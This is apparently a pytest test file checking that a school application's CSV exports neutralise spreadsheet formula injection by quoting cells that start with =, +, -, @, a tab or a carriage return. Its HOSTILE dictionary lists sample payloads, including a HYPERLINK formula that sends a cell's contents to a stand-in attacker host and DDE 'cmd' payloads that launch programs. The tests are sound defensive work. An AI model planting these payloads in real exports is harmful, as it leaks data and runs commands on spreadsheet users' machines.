# ruff: noqa: F811  (pytest fixtures imported from another conftest, then requested)
"""Issue 9, item 6: no CSV export hands a spreadsheet a formula (OWASP "CSV injection").

Every CSV download goes through `milieu.exports`; a cell starting with = + - @, a tab or a
carriage return is written after a single quote, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
import time_machine
from django.urls import reverse

from milieu.exports import csv_response, csv_text, safe_cell
from milieu.factories import StudentFactory
from tests.core.conftest import School, academie, school_a  # noqa: F401  (fixtures)
from tests.school.conftest import client_for

HOSTILE = {
    "equals": '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "full-width-equals": "＝1+1",
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_formula_start_is_neutralised_with_a_quote(case: str) -> None:
    text = HOSTILE[case]
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, 2.5, Decimal("-1.25"), "-3", "+2,5", "-0.75", "Dupont", "Jean-Marc", "", "a=b"]
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: Any) -> None:
    assert safe_cell(value) == value


def test_none_and_booleans_become_plain_cells() -> None:
    assert [safe_cell(None), safe_cell(True), safe_cell(False)] == ["", "oui", "non"]


def test_the_file_is_utf8_with_bom_and_semicolons_and_every_cell_is_safe() -> None:
    text = csv_text(["Nom", "=Titre"], [["=1+1", -4], ["Élodie", "@x"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["Nom", "'=Titre"], ["'=1+1", "-4"], ["Élodie", "'@x"]]


def test_the_download_is_never_cached_and_keeps_its_name() -> None:
    response = csv_response("verdicts été.csv", ["a"], [["b"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    assert "attachment" in response["Content-Disposition"]
    assert "verdicts%20%C3%A9t%C3%A9.csv" in response["Content-Disposition"]


def test_the_cohort_verdicts_export_neutralises_hostile_names(school_a: School) -> None:
    hostile = StudentFactory.create(
        cohort=school_a.cohort,
        last_name=HOSTILE["equals"],
        first_name=HOSTILE["at"],
    )
    with time_machine.travel(datetime(2027, 9, 1, 10, tzinfo=UTC), tick=False):
        response = client_for(school_a.secretary).get(
            reverse("establishments:cohort_verdicts", args=[school_a.cohort.pk]),
            {"format": "csv"},
        )
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    row = next(r for r in rows if r[0] == hostile.ine)
    assert row[1] == "'" + HOSTILE["equals"]
    assert row[2] == "'" + HOSTILE["at"]
    # no cell of the file starts with a formula character
    for line in rows:
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(",", "").isdigit(), cell
